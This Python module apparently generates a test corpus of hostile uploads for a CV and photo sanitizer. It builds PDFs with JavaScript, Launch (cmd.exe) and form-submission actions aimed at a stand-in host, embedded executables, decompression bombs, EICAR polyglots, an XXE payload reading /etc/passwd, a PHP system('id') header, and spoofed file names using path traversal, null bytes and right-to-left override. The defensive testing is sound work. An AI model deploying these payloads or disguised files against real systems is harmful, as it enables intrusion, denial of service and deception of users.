"""Files made to harm, generated: scripts, attachments, polyglots, bombs, lies about what they are."""

import io
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CANARY = "Zéphyrine Quassoux"
JS = "app.alert('harm')"


@dataclass(frozen=True)
class Hostile:
    name: str
    file: str
    data: bytes


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def blank(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(JS))


def annotation(action: Dictionary, subtype: Name = Name.Link) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[0, 0, 595, 842], A=action)


def in_catalog(**entries: object) -> bytes:
    pdf = blank()
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = pdf.make_indirect(value)
    return saved(pdf)


def on_page(**entries: object) -> bytes:
    pdf = blank()
    for key, value in entries.items():
        pdf.pages[0].obj[f"/{key}"] = pdf.make_indirect(value)
    return saved(pdf)


def actions() -> dict[str, Dictionary]:
    uri = String("https://harm.example/")
    return {
        "javascript": script(),
        "launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
        "uri": Dictionary(S=Name.URI, URI=uri),
        "gotor": Dictionary(S=Name.GoToR, F=String("//harm.example/x.pdf"), D=[0, Name.Fit]),
        "gotoe": Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))),
        "submit": Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=uri)),
        "import": Dictionary(S=Name.ImportData, F=String("x.fdf")),
        "rendition": Dictionary(S=Name.Rendition, OP=0, JS=String(JS)),
        "movie": Dictionary(S=Name.Movie, T=String("x")),
        "named": Dictionary(S=Name.Named, N=Name.Print),
        "hide": Dictionary(S=Name.Hide, T=String("x")),
        "thread": Dictionary(S=Name.Thread, D=0),
    }


def attached() -> bytes:
    pdf = blank()
    pdf.attachments["harm.exe"] = b"MZ" + b"\0" * 200
    return saved(pdf)


def associated() -> bytes:
    pdf = blank()
    stream = pdf.make_stream(b"MZ harm")
    stream.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=stream)))
    pdf.pages[0].obj.AF = Array([spec])
    pdf.Root.AF = Array([spec])
    return saved(pdf)


def form_field() -> bytes:
    pdf = blank()
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx, T=String("x"), Subtype=Name.Widget, Rect=[0, 0, 9, 9], AA=Dictionary(K=script())
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=[field], CO=[field])
    return saved(pdf)


def xfa() -> bytes:
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return saved(pdf)


def inside_a_form_object(key: str) -> bytes:
    """A harmful key in the object a page draws, not in the page."""
    pdf = blank()
    drawn = pdf.make_stream(b"")
    drawn.Type, drawn.Subtype, drawn.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    drawn[key] = (
        Dictionary(O=script(), F=String(CANARY)) if key != "/Metadata" else pdf.make_stream(CANARY.encode())
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F0=drawn))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/F0 Do")
    return saved(pdf)


def with_metadata() -> bytes:
    pdf = blank()
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as meta:
        meta["dc:creator"] = [CANARY]
    return saved(pdf)


def jpeg(size: tuple[int, int] = (40, 40)) -> bytes:
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x013B] = CANARY
    exif[0x8298] = CANARY
    Image.new("RGB", size, "navy").save(out, "JPEG", exif=exif, comment=CANARY.encode())
    return out.getvalue()


def png(size: tuple[int, int] = (40, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("L", size).save(out, "PNG")
    return out.getvalue()


def photograph() -> bytes:
    pdf = blank()
    image = pikepdf.Stream(pdf, jpeg())
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 40, 40
    image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I0=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 40 0 0 40 9 9 cm /I0 Do Q")
    return saved(pdf)


def inflating(megabytes: int, *, twice: bool = False) -> bytes:
    pdf = blank()
    # A block that ends on a whole byte, so many times over: made in no time, whatever its size.
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    raw = b"\x78\xda" + block * megabytes + b"\x03\x00" + b"\0" * 4
    filters: object = Name.FlateDecode
    if twice:
        raw, filters = zlib.compress(raw, 9), Array([Name.FlateDecode, Name.FlateDecode])
    stream = pikepdf.Stream(pdf, raw)
    stream.Filter = filters
    pdf.pages[0].obj.Contents = stream
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def huge_picture() -> bytes:
    pdf = blank()
    image = pikepdf.Stream(pdf, b"")
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 60_000, 60_000
    image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I0=image))
    return saved(pdf)


def many_objects() -> bytes:
    pdf = blank()
    pdf.Root.Heap = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(60_000)])
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def looping() -> bytes:
    """A tree of pages that is its own child, and a table of references that points to itself."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
    place = len(body)
    body += b"xref\n0 1\n0000000000 65535 f\ntrailer<</Root 1 0 R/Size 3/Prev %d>>\n" % place
    return body + b"startxref\n%d\n%%%%EOF" % place


def encrypted(**passwords: str) -> bytes:
    return saved(blank(), encryption=pikepdf.Encryption(**passwords))


# How other kinds of files begin: programs, archives, pages, office, pictures of other kinds.
BEGINNINGS: Mapping[str, bytes] = {
    "program": b"MZ\x90\x00",
    "program of Linux": b"\x7fELF\x02\x01",
    "program of a Mac": b"\xcf\xfa\xed\xfe",
    "class": b"\xca\xfe\xba\xbe",
    "module of a browser": b"\x00asm\x01\x00",
    "shell": b"#!/bin/sh\n",
    "script of a server": b"<?php system('id');",
    "page": b"<!doctype html><script>alert(1)</script>",
    "page of another charset": "\ufeff<html>".encode("utf-16"),
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "entities": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "archive": b"PK\x03\x04",
    "empty archive": b"PK\x05\x06" + bytes(18),
    "another archive": b"Rar!\x1a\x07",
    "a third": b"7z\xbc\xaf'\x1c",
    "compressed": b"\x1f\x8b\x08\x00",
    "otherwise compressed": b"BZh91AY",
    "cabinet": b"MSCF",
    "disk": b"CD001",
    "office of before": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "rich text": b"{\\rtf1{\\object\\objdata 0105}}",
    "printer": b"%!PS-Adobe-3.0\n(x) run\n",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00",
    "help": b"ITSF\x03\x00",
    "animation": b"GIF89a/*",
    "bitmap": b"BM\x00\x00",
    "large picture": b"II*\x00",
    "other picture": b"RIFF\x00\x00\x00\x00WEBP",
    "film": b"\x00\x00\x00\x18ftypmp42",
    "flash": b"FWS\x09",
    "database": b"SQLite format 3\x00",
    "letter": b"From: x@x.example\nContent-Type: text/html\n\n<script>",
}
# What a system or a server would run, whatever it holds.
ENDINGS = (
    "exe", "com", "bat", "cmd", "scr", "msi", "ps1", "vbs", "js", "jse", "wsf", "hta", "lnk", "reg", "jar",
    "dll", "sh", "py", "php", "phtml", "asp", "aspx", "jsp", "cgi", "htaccess", "html", "xhtml", "svg", "xml",
    "docm", "xlsm", "zip", "iso", "chm", "pdf.", "pdf ", "pdf.exe ", "PDF.EXE", "pdf::$DATA", "pdf;.exe",
    "pdf%00.exe",
)  # fmt: skip


@cache
def everything() -> tuple[Hostile, ...]:
    return tuple(corpus())


def corpus() -> Iterator[Hostile]:
    """Every file, with the name it is sent under."""
    good = saved(blank())
    for name in actions():
        yield Hostile(f"open action {name}", "cv.pdf", in_catalog(OpenAction=actions()[name]))
        action = actions()[name]
        yield Hostile(f"annotation {name}", "cv.pdf", on_page(Annots=Array([annotation(action)])))
    made: dict[str, Callable[[], bytes]] = {
        "catalog additional actions": lambda: in_catalog(AA=Dictionary(WC=script(), DS=script())),
        "page additional actions": lambda: on_page(AA=Dictionary(O=script(), C=script())),
        "named scripts": lambda: in_catalog(
            Names=Dictionary(JavaScript=Dictionary(Names=[String("x"), script()]))
        ),
        "outline with a script": lambda: in_catalog(
            Outlines=Dictionary(First=Dictionary(Title=String("x"), A=script()))
        ),
        "attachment": attached,
        "associated file": associated,
        "form field with a script": form_field,
        "dynamic form": xfa,
        "file annotation": lambda: on_page(Annots=Array([annotation(script(), Name.FileAttachment)])),
        "rich media": lambda: on_page(Annots=Array([annotation(script(), Name.RichMedia)])),
        "screen": lambda: on_page(Annots=Array([annotation(script(), Name.Screen)])),
        "script in a drawn object": lambda: inside_a_form_object("/AA"),
        "private data in a drawn object": lambda: inside_a_form_object("/PieceInfo"),
        "metadata in a drawn object": lambda: inside_a_form_object("/Metadata"),
        "print instructions in a drawn object": lambda: inside_a_form_object("/OPI"),
        "reference to another file": lambda: inside_a_form_object("/Ref"),
        "author": with_metadata,
        "photograph that knows its author": photograph,
        "password": lambda: encrypted(user="secret", owner="secret"),
        "owner password only": lambda: encrypted(owner="secret"),
        "forty-one pages": lambda: saved(blank(41)),
        "two thousand pages": lambda: saved(blank(2000)),
        "no page": lambda: saved(pikepdf.new()),
        "sixty thousand objects": many_objects,
        "six hundred megabytes of spaces": lambda: inflating(600),
        "a bomb in a bomb": lambda: inflating(200, twice=True),
        "a picture of 3.6 gigapixels": huge_picture,
        "loops": looping,
        "header only": lambda: b"%PDF-1.7",
        "cut in the middle": lambda: good[: len(good) // 2],
        "zeros": lambda: b"%PDF-1.4" + b"\0" * 2_000_000,
        "page with a web page behind": lambda: good + b"<html><script>alert(1)</script></html>",
        "page with an archive behind": lambda: good + b"PK\x03\x04" + b"\0" * 60,
        "page with a virus behind": lambda: good + EICAR,
        "virus in a comment": lambda: good.replace(b"\n", b"\n%" + EICAR + b"\n", 1),
        "deep arrays": lambda: b"%PDF-1.4\n1 0 obj" + b"[" * 100_000 + b"]" * 100_000 + b"endobj\n",
    }
    for name, make in made.items():
        yield Hostile(name, "cv.pdf", make())
    yield Hostile("web page in front", "cv.pdf", b"<html><script>1</script></html>" + good)
    yield Hostile("program under the name of a page", "cv.pdf", b"MZ" + good)
    yield Hostile("archive under the name of a page", "cv.pdf", b"PK\x03\x04" + good)
    yield Hostile("virus alone", "cv.pdf", EICAR)
    yield Hostile("post script", "cv.pdf", b"%!PS-Adobe-3.0\n(x) run\n")
    yield Hostile("page named as a program", "cv.pdf.exe", good)
    yield Hostile("page named as a script", "cv.pdf.js", good)
    yield Hostile("web page", "cv.html", b"<html>")
    yield Hostile("drawing", "photo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>")
    yield Hostile("office", "cv.docm", b"PK\x03\x04")
    yield Hostile("no extension", "cv", good)
    yield Hostile("direction of reading reversed", "cv\u202efdp.exe", good)
    yield Hostile("script before the extension", "cv.php.pdf", good)
    yield Hostile("null in the name", "cv.exe\x00.pdf", good)
    yield Hostile("path in the name", "../../../etc/cv.pdf", good)
    yield Hostile("drawing named as a photograph", "photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    yield Hostile("photograph with an author", "photo.jpg", jpeg())
    yield Hostile("photograph with a web page behind", "photo.jpg", jpeg() + b"<script>alert(1)</script>")
    yield Hostile("picture of 144 megapixels", "photo.png", png((12_000, 12_000)))
    yield Hostile("picture cut in the middle", "photo.png", png()[:40])
    yield Hostile("photograph that is a page", "photo.jpg", good)
    for kind, beginning in BEGINNINGS.items():
        for name in ("cv.pdf", "photo.png", "photo.jpg"):
            yield Hostile(f"{kind} under the name {name}", name, beginning + bytes(2_000))
    for ending in ENDINGS:
        yield Hostile(f"page named .{ending}", f"cv.{ending}", good)
